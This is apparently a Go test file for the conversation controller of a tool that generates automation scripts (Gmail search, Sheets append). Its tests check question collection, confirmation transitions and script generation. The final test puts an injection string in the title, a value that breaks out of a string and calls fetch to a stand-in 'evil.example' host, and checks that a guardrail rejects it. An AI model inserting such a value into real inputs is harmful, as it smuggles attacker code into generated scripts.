package conversation

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/shinobi1046-lgtm/scriptflow/pkg/catalog"
	"github.com/shinobi1046-lgtm/scriptflow/pkg/guardrail"
	"github.com/shinobi1046-lgtm/scriptflow/pkg/intent"
	"github.com/shinobi1046-lgtm/scriptflow/pkg/synth"
)

func testController(t *testing.T) *Controller {
	t.Helper()
	cat, err := catalog.Default()
	require.NoError(t, err)
	return NewController(synth.New(cat), guardrail.New(), ControllerConfig{})
}

func draftNodes() []synth.Node {
	return []synth.Node{
		{
			ID:         "node_1",
			App:        "gmail",
			FunctionID: "gmail.search_messages",
			Label:      "Search Messages",
			Required:   []string{"query"},
			Parameters: map[string]string{"query": "{{query}}"},
		},
		{
			ID:         "node_2",
			App:        "sheets",
			FunctionID: "sheets.append_row",
			Label:      "Append Row",
			Required:   []string{"spreadsheet_id"},
			Parameters: map[string]string{},
		},
	}
}

func TestCollect_MissingFieldsStayInCollect(t *testing.T) {
	c := testController(t)
	s := NewSession("track my emails")

	questions := c.Collect(s, draftNodes())
	require.NotEmpty(t, questions)
	assert.Equal(t, PhaseCollect, s.Phase)
	assert.Equal(t, "node_1.query", questions[0].ID)
	assert.Equal(t, "Please provide query for Search Messages", questions[0].Prompt)
	assert.Equal(t, CategoryFilter, questions[0].Category)
	assert.Equal(t, KindText, questions[0].Kind, "field kind is the generic text kind")
}

func TestCollect_AllFieldsPresentAdvancesToConfirm(t *testing.T) {
	c := testController(t)
	s := NewSession("track my emails")
	s.Answers["node_1.query"] = "is:unread label:invoices"
	s.Answers["node_2.spreadsheet_id"] = "1AbCdEf"

	questions := c.Collect(s, draftNodes())
	assert.Empty(t, questions)
	assert.Empty(t, s.PendingQuestions)
	assert.Equal(t, PhaseConfirm, s.Phase)
}

func TestCollect_InlineParameterResolvesField(t *testing.T) {
	nodes := draftNodes()
	nodes[0].Parameters["query"] = "is:unread"
	nodes[1].Parameters["spreadsheet_id"] = "1AbCdEf"

	missing := MissingFields(nodes, nil)
	assert.Empty(t, missing)
}

func TestCollect_PlaceholderDoesNotResolveField(t *testing.T) {
	nodes := draftNodes()
	missing := MissingFields(nodes, nil)
	require.Len(t, missing, 2)
	assert.Equal(t, MissingField{NodeID: "node_1", Field: "query", Kind: KindText}, missing[0])
	assert.Equal(t, "node_1.query", missing[0].AnswerKey())
}

func TestCollect_QuestionCapPerTurn(t *testing.T) {
	cat, err := catalog.Default()
	require.NoError(t, err)
	c := NewController(synth.New(cat), guardrail.New(), ControllerConfig{MaxQuestionsPerTurn: 1})
	s := NewSession("track my emails")

	questions := c.Collect(s, draftNodes())
	assert.Len(t, questions, 1)
	assert.Equal(t, PhaseCollect, s.Phase)
}

func TestConfirm_Transitions(t *testing.T) {
	tests := []struct {
		input string
		want  Phase
	}{
		{"ok", PhaseGenerate},
		{"Yes, looks good", PhaseGenerate},
		{"CONFIRM", PhaseGenerate},
		{"  yes please", PhaseGenerate},
		{"change the label", PhaseCollect},
		{"no", PhaseCollect},
		{"", PhaseCollect},
	}
	c := testController(t)
	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			s := NewSession("x")
			s.Phase = PhaseConfirm
			c.Confirm(s, tt.input)
			assert.Equal(t, tt.want, s.Phase)
		})
	}
}

func TestGenerate_AcceptedArtifactFinishesSession(t *testing.T) {
	c := testController(t)
	s := NewSession("track my emails")
	s.Phase = PhaseGenerate

	err := c.Generate(s, synth.Request{
		Title:   "Invoice tracker",
		Trigger: "On a time-based trigger every hour",
		Selections: []intent.Selection{
			{App: "gmail", FunctionID: "gmail.search_messages", Parameters: map[string]string{"query": "is:unread"}},
			{App: "sheets", FunctionID: "sheets.append_row", Parameters: map[string]string{"spreadsheet_id": "1AbC"}},
		},
	})
	require.NoError(t, err)
	assert.Equal(t, PhaseDone, s.Phase)
	require.NotNil(t, s.Artifact)
	assert.Equal(t, synth.StatusAccepted, s.Artifact.Status)
	assert.NotEmpty(t, s.Artifact.RenderedScript)
}

func TestGenerate_GuardrailRejectionKeepsPhase(t *testing.T) {
	cat, err := catalog.Parse([]byte(`
apps:
  - app: webapp
    functions:
      - id: webapp.poll
        name: Poll Endpoint
        description: Poll an HTTP endpoint.
        keywords: [poll]
        category: Web
        parameters:
          url:
            type: string
            description: Endpoint URL
            required: true
`))
	require.NoError(t, err)

	// Generated fragments are guardrail-safe, so force a violation through
	// the title, which lands in the script header verbatim.
	s := NewSession("poll a url")
	s.Phase = PhaseGenerate
	c := NewController(synth.New(cat), guardrail.New(), ControllerConfig{})

	genErr := c.Generate(s, synth.Request{
		Selections: []intent.Selection{{
			App:        "webapp",
			FunctionID: "webapp.poll",
			Parameters: map[string]string{"url": "https://x"},
		}},
		Title: `tracker"); fetch("https://evil.example`,
	})
	require.Error(t, genErr)
	assert.Equal(t, PhaseGenerate, s.Phase)
	assert.Nil(t, s.Artifact, "rejected script is never stored")
}
